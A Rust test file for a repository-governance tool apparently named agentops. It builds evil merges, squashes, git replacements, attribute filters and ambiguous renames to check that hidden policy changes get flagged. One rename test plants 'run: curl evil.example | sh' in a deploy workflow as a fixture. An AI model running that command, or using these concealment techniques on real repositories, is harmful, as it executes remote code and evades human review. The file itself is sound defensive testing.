//! Changes hidden where a reviewer does not look: in a merge, in a squash, behind a replacement, behind attributes.

use agentops::config::builtin;
use agentops::engine::EngineError;
use agentops::engine::tasks::task::{self, NewTask};
use agentops::git::GitError;
use agentops::model::law_id::Level;
use agentops::model::layout;
use agentops::model::name::ProfileName;
use agentops::model::report::Violation;

use crate::sandbox::{Sandbox, lawful};
use crate::world::{World, code, code_path, laws, requirements, shown};

const PROFILE_FILE: &str = ".agentops/product-dev/profile.toml";

/// Loosens the gate of the research phase in the working tree.
fn loosen(world: &World) {
    let text = world.sandbox.read(PROFILE_FILE);
    let text = text.replacen("vote = \"review\"", "vote = \"none\"", 1).replacen("voters = 1", "voters = 0", 1);
    world.sandbox.write(PROFILE_FILE, text);
}

/// Merges an innocent branch into `work`, and writes something else into the merge commit.
fn evil_merge(world: &World, edit: impl FnOnce(&World)) {
    world.git("switch -q -c innocent");
    world.commit_file("src/innocent.rs", "//! Innocent.\n", "feat: add a module");
    world.switch("work");
    world.commit_file("src/beside.rs", "//! Beside.\n", "feat: add a module beside");
    world.git("merge --quiet --no-commit --no-ff innocent");
    edit(world);
    world.git("add --all");
    let message = lawful("chore: merge innocent");
    world.sandbox.try_git("commit --quiet --file=-").stdin(message).run().expect_code(0);
    assert_eq!(world.git("rev-list --no-walk --parents HEAD").split(' ').count(), 3, "a merge");
}

#[test]
fn an_evil_merge_that_smuggles_a_change() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.pass(&task);
    world.pass(&task);
    let start = world.git("rev-parse HEAD");
    let artifact = world.document(&task, "requirements.md");
    type Edit<'e> = &'e dyn Fn(&World);
    let cases: [(&str, &str, Edit<'_>); 4] = [
        ("a governed file", "AO-G3", &loosen),
        ("an approved artifact", "AO-E8", &|world| {
            world.sandbox.write(&artifact, requirements(&task).replace("30 minutes", "30 days"));
        }),
        ("a file of the past", "AO-E1", &|world| {
            let events = world.git(&format!("ls-files .agentops/product-dev/events/{task}"));
            world.git(&format!("rm -q --cached {}", events.lines().next().unwrap()));
            std::fs::remove_file(world.sandbox.path().join(events.lines().next().unwrap())).unwrap();
        }),
        ("an event", "AO-E2", &|world| {
            world.sandbox.write(&format!(".agentops/product-dev/events/{task}/stray.toml"), "v = 1\n");
        }),
    ];
    for (what, law, edit) in cases {
        world.git(&format!("switch -q -C work {start}"));
        evil_merge(&world, edit);
        let report = world.landing("main", "work");
        assert!(laws(&report).contains(law), "{what}\n{}", shown(&report));
        world.git("branch -q -D innocent");
    }
}

#[test]
fn an_evil_merge_that_changes_the_code_of_a_manifest() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.pass(&task);
    world.pass(&task);
    world.branch("work");
    world.fill(&task);
    world.record(&task);
    world.next(&task);
    world.breaks(&[]);
    evil_merge(&world, |world| world.sandbox.write(&code_path(&task), code(&task).replace("1800", "999_999")));
    let report = world.landing("main", "work");
    assert!(laws(&report).contains("AO-P7"), "{}", shown(&report));
}

#[test]
fn policy_and_what_it_allows_squashed_into_one_commit() {
    let world = World::new();
    let task = world.open("Reset links expire");
    for with_amend in [false, true] {
        world.git("switch -q -C work main");
        loosen(&world);
        if with_amend {
            world.try_amend("claude").unwrap();
        } else {
            world.commit("chore: loosen a gate");
        }
        world.submit(&task);
        assert_eq!(world.git("ls-files .agentops/product-dev/votes"), "", "nobody voted");
        world.git("switch -q -C squashed main");
        world.git("merge --quiet --squash work");
        world.commit("feat: all at once");
        let report = world.landing("main", "squashed");
        let wanted = if with_amend { "AO-E4" } else { "AO-G3" };
        assert!(laws(&report).contains(wanted), "amend: {with_amend}\n{}", shown(&report));
    }
}

#[test]
fn a_replaced_file_and_a_replaced_tree_hide_nothing() {
    let world = World::new();
    let task = world.open("Reset links expire");
    world.pass(&task);
    world.branch("work");
    let path = world.document(&task, "requirements.md");
    let good = world.git(&format!("rev-parse HEAD:{path}"));
    world.commit_file(&path, requirements(&task).replace("30 minutes", "30 days"), "docs: edit requirements");
    let bad = world.git(&format!("rev-parse HEAD:{path}"));
    world.git(&format!("replace {bad} {good}"));
    world.git("replace HEAD^{tree} main^{tree}");
    assert!(world.git(&format!("cat-file -p {bad}")).contains("30 minutes"), "git itself follows the replacement");
    assert_eq!(world.git("diff --stat main work"), "");
    let report = world.landing("main", "work");
    assert!(laws(&report).contains("AO-E8"), "{}", shown(&report));
}

#[test]
fn attributes_choose_no_other_way_to_merge() {
    for place in [".gitattributes", "src/.gitattributes"] {
        let world = World::new();
        world.commit_file(place, "* merge=union\n", "chore: merge everything");
        world.branch("work");
        world.commit_file("src/session.rs", "pub struct Session(u8);\n", "feat: give sessions a number");
        world.switch("main");
        world.commit_file("src/session.rs", "pub struct Session(u16);\n", "feat: give sessions an age");
        match world.try_landing("main", "work") {
            Err(EngineError::Git(GitError::Conflict { paths })) => assert_eq!(paths, ["src/session.rs".into()]),
            Err(error) => panic!("{place}: {error}"),
            Ok(report) => panic!("{place}: {}", shown(&report)),
        }
    }
}

#[test]
fn attributes_above_agentops_change_none_of_its_bytes() {
    let sandbox = Sandbox::adopted();
    sandbox.write(".gitattributes", "[attr]eol text eol=crlf\n* text eol=crlf ident filter=evil\n");
    sandbox.git("config filter.evil.smudge rev");
    sandbox.git("config filter.evil.clean rev");
    sandbox.try_git("add .gitattributes").run().expect_code(0);
    sandbox
        .try_git("commit --quiet --no-verify --file=-")
        .stdin(lawful("chore: convert everything"))
        .run()
        .expect_code(0);
    sandbox.agentops("task new --profile sre").arg("Database is slow").run().expect_code(0);
    let event = sandbox.git("ls-files .agentops/sre/events");
    let kept = sandbox.read(&event);
    std::fs::remove_file(sandbox.path().join(&event)).unwrap();
    sandbox.git(&format!("checkout -- {event}"));
    assert_eq!(sandbox.read(&event), kept);
    sandbox.git("add --renormalize .agentops");
    sandbox.git("diff --cached --exit-code HEAD -- .agentops");
}

#[test]
fn a_rename_that_two_programs_guess_differently() {
    let steps: String = (0..41).map(|number| format!("# step {number} of it\n")).collect();
    let world = World::new();
    world.commit_file("tools/deploy.yml", &steps, "feat: deploy");
    world.branch("work");
    world.sandbox.write(".github/workflows/deploy.yml", format!("{steps}# a\n"));
    world.git("add -A");
    world.amend("alice", |text| text);
    world.sandbox.git("mv tools/deploy.yml attic.yml");
    world.commit("chore: move the old one away");
    world.switch("main");
    world.commit_file(
        "tools/deploy.yml",
        steps.replace("# step 20 of it", "run: curl evil.example | sh"),
        "docs: a note",
    );
    // Git may take the governed file for the one that moved, and carry the line over.
    conflict(&world, "tools/deploy.yml");
    // What the branch merges itself is judged as it is.
    world.switch("work");
    world.sandbox.try_git("merge --quiet --no-ff --no-edit main").run();
    world.sandbox.write(".github/workflows/deploy.yml", "run: curl evil.example | sh\n");
    world.sandbox.try_git("add -A").run().expect_code(0);
    world.commit("chore: merge main");
    world.breaks(&["AO-G3", "AO-G4"]);
}

#[test]
fn a_bound_file_that_both_sides_change() {
    let world = World::new();
    world.branch("work");
    let task = world.open("Reset links expire");
    world.finish(&task);
    let path = code_path(&task);
    world.switch("main");
    world.commit_file(&path, "// Elsewhere.\n", "feat: add the same file");
    conflict(&world, &path);
    // Nobody's task lists this one.
    world.switch("main");
    world.git("reset -q --hard HEAD~1");
    let ours = world.sandbox.read("src/login.rs").replace("step_1()", "step_one()");
    world.commit_file("src/login.rs", ours, "refactor: name a step");
    world.switch("work");
    let theirs = world.sandbox.read("src/login.rs").replace("step_20()", "step_twenty()");
    world.commit_file("src/login.rs", theirs, "refactor: name another step");
    world.breaks(&[]);
}

/// Fails unless `work` cannot be judged on `main` before somebody decides about `path`.
#[track_caller]
fn conflict(world: &World, path: &str) {
    match world.try_landing("main", "work") {
        Err(EngineError::Git(GitError::Conflict { paths })) => assert!(paths.contains(&path.into()), "{paths:?}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn rules_changed_in_a_merge_beside_the_line_and_changed_back() {
    let before = |world: &World| world.git("rev-parse HEAD");
    for shape in ["an ancestor second", "an ancestor first", "siblings"] {
        let world = World::new();
        world.branch("work");
        let start = before(&world);
        world.commit_file("src/one.rs", "//! One.\n", "feat: add a module");
        let one = before(&world);
        let side = world.commit_tree("HEAD^{tree}", &[&start], "feat: add it again");
        let parents = match shape {
            "an ancestor second" => [&one, &start],
            "an ancestor first" => [&start, &one],
            _ => [&one, &side],
        };
        world.git(&format!("reset -q --hard {one}"));
        let config = world.sandbox.read(layout::CONFIG);
        world.sandbox.write(layout::CONFIG, config.replace("max = 3", "max = 99"));
        world.git("add -A");
        let tree = world.git("write-tree");
        let bad = world.commit_tree(&tree, &parents.map(String::as_str), "chore: no amend, no owner");
        world.git("reset -q --hard HEAD");
        world.commit_file(layout::CONFIG, config, "chore: as it was");
        let landed = world.commit_tree("HEAD^{tree}", &["main", "HEAD"], "Merge pull request 1");
        let report = world.landing("main", &landed);
        assert_eq!(laws(&report), ["AO-G3"].into(), "{shape}: {}", shown(&report));
        assert!(shown(&report).contains(&bad[..12]), "{shape}: {}", shown(&report));
    }
}

/// Merges `main` into `work` where both changed a text that is too large to be merged by the judge, which git merges all the
/// same; the merge. On `main` rules changed and were used then: from the parent on `work` that does not pass as one step.
fn merge_of_a_large_text(world: &World, edit: impl FnOnce(&World)) -> String {
    let text = |first: &str, last: &str| format!("{first}\n{}\n{last}\n", "x".repeat(16 * 1024 * 1024));
    world.commit_file("data/large.txt", text("1", "1"), "feat: add the data");
    world.branch("work");
    world.commit_file("data/large.txt", text("1", "2"), "feat: end the data otherwise");
    world.switch("main");
    world.commit_file("data/large.txt", text("2", "1"), "feat: begin the data otherwise");
    for (path, bytes) in builtin::files(&ProfileName::parse("devops").unwrap()) {
        world.sandbox.write(&path.to_string(), bytes);
    }
    world.try_amend("alice").unwrap();
    let title = "Upgrade the cluster".into();
    let request = NewTask { title, profile: Some("devops".into()), ..NewTask::default() };
    task::open(&world.site("claude"), &Default::default(), &request).unwrap();
    world.switch("work");
    world.git("merge --quiet --no-commit --no-ff main");
    edit(world);
    world.git("add --all");
    let message = lawful("chore: merge main");
    world.sandbox.try_git("commit --quiet --file=-").stdin(message).run().expect_code(0);
    let merge = world.git("rev-parse HEAD");
    assert_eq!(world.git(&format!("show {merge}:data/large.txt")).len(), text("2", "2").trim_end().len());
    merge
}

/// Lands `work` on `main` with a merge commit, on a branch of its own.
fn land_beside(world: &World) {
    world.git("switch --quiet --create next main");
    world.git("merge --quiet --no-ff --no-edit work");
}

#[test]
fn merging_a_large_text_lawfully_stays_lawful() {
    let world = World::new();
    merge_of_a_large_text(&world, |_| {});
    land_beside(&world);
    let report = world.landing("main", "next");
    assert!(report.passes(), "{}", shown(&report));
    world.replays("next");
}

#[test]
fn a_merge_of_a_large_text_hides_nothing() {
    let world = World::new();
    let governed = world.sandbox.read(PROFILE_FILE);
    let merge = merge_of_a_large_text(&world, loosen);
    world.commit_file(PROFILE_FILE, governed, "chore: take it back");
    land_beside(&world);
    let report = world.landing("main", "next");
    let is_of_merge =
        |found: &Violation| found.level == Level::Error && found.place.commit.is_some_and(|id| id.to_string() == merge);
    assert!(report.violations.iter().any(is_of_merge), "{}", shown(&report));
}
